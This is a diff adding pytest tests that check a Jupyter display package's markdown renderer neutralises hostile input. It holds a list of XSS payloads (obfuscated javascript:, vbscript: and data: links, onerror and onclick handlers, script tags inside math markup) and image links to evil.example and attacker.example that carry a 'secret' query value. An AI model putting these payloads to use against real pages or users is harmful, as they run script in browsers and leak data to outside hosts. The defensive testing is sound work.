@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import html as htmllib
+import re
 import xml.etree.ElementTree as ET
 
 import pytest
@@ -12,10 +14,12 @@ from cortex_jupyter.display import (
     details_html,
     graph_svg,
     header_html,
+    render_markdown,
     static_html,
     thought_html,
     timeline_svg,
 )
+from cortex_jupyter.display.markdown import MATH_CLASS
 from cortex_jupyter.protocol import Action, ActionReady, ActionStart, ProtocolError
 from cortex_jupyter.runtime import Nested
 
@@ -105,3 +109,103 @@ def test_payload_text_is_still_shown_escaped() -> None:
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out["thought"]
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out["response"]
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out["graph"]
+
+
+# ----------------------------------------------------------------------------- markdown
+
+HOSTILE_MARKDOWN = {
+    "autolink javascript": "<javascript:alert(1)>",
+    "autolink vbscript": "<VBScript:msgbox(1)>",
+    "autolink data html": "<data:text/html;base64,PHNjcmlwdD4=>",
+    "entity in scheme": "[x](jav&#x61;script:alert(1))",
+    "decimal entity": "[x](&#106;avascript:alert(1))",
+    "tab entity": "[x](java&#x09;script:alert(1))",
+    "newline entity": "[x](java&#10;script:alert(1))",
+    "upper case": "[x](JAVASCRIPT:alert(1))",
+    "space before": "[x](   javascript:alert(1))",
+    "angle destination": "[x](<javascript:alert(1)>)",
+    "data html link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "reference link": "[x][r]\n\n[r]: javascript:alert(1)",
+    "reference image": "![x][r]\n\n[r]: http://evil.example/",
+    "collapsed reference image": "![r][]\n\n[r]: https://evil.example/p.png?c=secret",
+    "image in link": "[![x](http://evil.example/i.png)](http://example.org)",
+    "link in image": "![a [b](javascript:alert(1)) c](http://evil.example/i.png)",
+    "image javascript": "![x](javascript:alert(1))",
+    "image data html": "![x](data:text/html;base64,PHNjcmlwdD4=)",
+    "image data svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "image protocol-relative": "![x](//evil.example/p.png)",
+    "image title quote": '![x](http://e.example/p.png "a\\" onerror=alert(1) x=")',
+    "image alt markup": "![<img src=x onerror=alert(1)>](http://e.example/p.png)",
+    "math html": "$<img src=x onerror=alert(1)>$ and $$</span><script>alert(1)</script>$$",
+    "bracket math html": "\\(</span><script>alert(1)</script>\\)",
+    "html block": "<div onclick=alert(1)>x</div>",
+    "inline html": "a <img src=x onerror=alert(1)> b",
+}
+ALLOWED_SCHEMES = {None, "http", "https", "mailto"}
+
+
+def scheme(url: str) -> str | None:
+    """The scheme a browser reads in an attribute's value: entities decoded, tabs and
+    line breaks removed anywhere, leading controls and spaces dropped (WHATWG URL)."""
+    url = re.sub(r"[\t\n\r]", "", htmllib.unescape(url)).lstrip("".join(map(chr, range(33))))
+    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", url)
+    return match.group(1).lower() if match else None
+
+
+def assert_safe_markdown_html(out: str) -> None:
+    """Well-formed, only harmless elements, no event handlers, links only to allowed
+    schemes (a relative ``javascript`` while the ``:`` has not arrived is harmless), and
+    images only from inline data."""
+    for element in ET.fromstring(f"<root>{out}</root>").iter():
+        assert element.tag in HTML_ELEMENTS | {"img"}, element.tag
+        assert not any(name.lower().startswith("on") for name in element.attrib)
+        if "href" in element.attrib:
+            assert scheme(element.attrib["href"]) in ALLOWED_SCHEMES, element.attrib
+        if "src" in element.attrib:
+            assert re.match(r"data:image/(png|jpeg|gif|webp);", element.attrib["src"])
+
+
+@pytest.mark.parametrize("text", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
+def test_hostile_markdown_is_inert(text: str) -> None:
+    full = render_markdown(text)
+    assert_safe_markdown_html(full)
+    md = IncrementalMarkdown()
+    for end in range(len(text) + 1):
+        assert md.render(text[:end]) == render_markdown(text[:end])
+        assert_safe_markdown_html(md.render(text[:end]))
+
+
+def test_remote_images_are_links_in_the_live_view_and_the_static_copy() -> None:
+    state = ViewState()
+    body = (
+        "![chart](https://attacker.example/p.png?c=secret) and ![dot](data:image/png;base64,AA==)"
+    )
+    feed(state, parse(f"<response>{body}</response>"))
+    for out in (IncrementalMarkdown().render(state.body), static_html(state, now=300.0)):
+        assert '<img src="https://' not in out and 'attacker.example/p.png?c=secret"' in out
+        assert re.search(
+            r'<a href="https://attacker\.example/p\.png\?c=secret"[^>]*'
+            r'rel="noopener noreferrer nofollow"[^>]*>🖼 chart</a>',
+            out,
+        )
+        assert '<img src="data:image/png;base64,AA==" alt="dot">' in out
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[x](javascript:alert(1)) ![i](http://evil.example/p.png?c=1)",
+        "**bold** `code` <b>b</b> &lt;entity&gt;",
+        "$x$ and $$y$$ and \\(z\\) and \\[w\\] \\begin{align}a\\end{align}",
+        "$other, not filled again",
+    ],
+)
+def test_a_value_is_shown_as_text_never_interpreted(value: str) -> None:
+    values = {"v": value, "other": "SHOULD NOT APPEAR"}
+    for out in (render_markdown("Shown: $v", values), render_markdown("[$v](#a)", values)):
+        assert_safe_markdown_html(out)
+        assert MATH_CLASS not in out and "<strong>" not in out and "<b>" not in out
+        assert out.count("<a ") <= 1 and "<img" not in out and "SHOULD NOT" not in out
+        assert value in htmllib.unescape(re.sub(r"<[^>]*>", "", out))
